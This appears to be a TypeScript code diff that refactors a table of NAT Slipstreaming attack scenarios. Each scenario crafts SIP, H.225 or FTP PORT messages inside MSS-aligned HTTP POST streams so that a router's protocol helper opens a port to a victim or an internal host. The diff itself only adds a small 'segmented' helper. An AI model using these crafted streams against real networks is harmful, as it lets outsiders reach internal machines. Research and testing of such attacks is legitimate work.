@@ -78,6 +78,11 @@ function ok(request: string, h: SlipstreamHosts): string {
   ].join('\r\n');
 }
 
+/** The victim's stream cut where the attacker's MSS ends its segments, and the server's answer. */
+function segmented(stream: Uint8Array, h: SlipstreamHosts, reply: Uint8Array) {
+  return { transport: 'tcp' as const, stream, cuts: mssCuts(stream.length, h.mss), reply };
+}
+
 const HTTP_OK = text('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
 
 function ftpPort(host: string, port: number): string {
@@ -100,7 +105,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
       const message = register(h, h.victim, 'TCP');
       const stream = httpPostAligned(h.server, text(message), h.mss);
       // The server's side of the connection starts with SIP: a 200 OK for the REGISTER.
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: text(ok(message, h)) };
+      return segmented(stream, h, text(ok(message, h)));
     },
     goal: (h) => ({ host: h.victim, port: TARGET_PORT, proto: 'tcp' }),
   },
@@ -115,7 +120,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     craft: (h) => {
       const message = invite(h, h.victim, 'TCP');
       const stream = httpPostAligned(h.server, text(message), h.mss);
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: text(ok(message, h)) };
+      return segmented(stream, h, text(ok(message, h)));
     },
     goal: (h) => ({ host: h.victim, port: TARGET_PORT, proto: 'udp' }),
   },
@@ -130,7 +135,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     craft: (h) => {
       const message = register(h, h.victim, 'TCP');
       const stream = turnAllocateCarrying(text(message), h.mss);
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: text(ok(message, h)) };
+      return segmented(stream, h, text(ok(message, h)));
     },
     goal: (h) => ({ host: h.victim, port: TARGET_PORT, proto: 'tcp' }),
   },
@@ -173,7 +178,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     craft: (h) => {
       const message = invite(h, h.other, 'TCP');
       const stream = text(message);
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: text(ok(message, h)) };
+      return segmented(stream, h, text(ok(message, h)));
     },
     goal: (h) => ({ host: h.other, port: TARGET_PORT, proto: 'udp' }),
   },
@@ -187,7 +192,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     victimPort: 0,
     craft: (h) => {
       const stream = httpPostAligned(h.server, h225Setup(h.victim, TARGET_PORT), h.mss);
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: HTTP_OK };
+      return segmented(stream, h, HTTP_OK);
     },
     goal: (h) => ({ host: h.victim, port: TARGET_PORT, proto: 'tcp' }),
   },
@@ -201,7 +206,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     victimPort: 0,
     craft: (h) => {
       const stream = httpPostAligned(h.server, h225Setup(h.other, TARGET_PORT), h.mss);
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: HTTP_OK };
+      return segmented(stream, h, HTTP_OK);
     },
     goal: (h) => ({ host: h.other, port: TARGET_PORT, proto: 'tcp' }),
   },
@@ -215,7 +220,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     victimPort: 0,
     craft: (h) => {
       const stream = httpPostAligned(h.server, text(ftpPort(h.victim, TARGET_PORT)), h.mss, '\r\n');
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: HTTP_OK };
+      return segmented(stream, h, HTTP_OK);
     },
     goal: (h) => ({ host: h.victim, port: TARGET_PORT, proto: 'tcp' }),
   },
@@ -229,7 +234,7 @@ export const SLIPSTREAM_SCENARIOS: readonly SlipstreamScenario[] = [
     victimPort: 0,
     craft: (h) => {
       const stream = httpPostAligned(h.server, text(ftpPort(h.other, TARGET_PORT)), h.mss, '\r\n');
-      return { transport: 'tcp', stream, cuts: mssCuts(stream.length, h.mss), reply: HTTP_OK };
+      return segmented(stream, h, HTTP_OK);
     },
     goal: (h) => ({ host: h.other, port: TARGET_PORT, proto: 'tcp' }),
   },
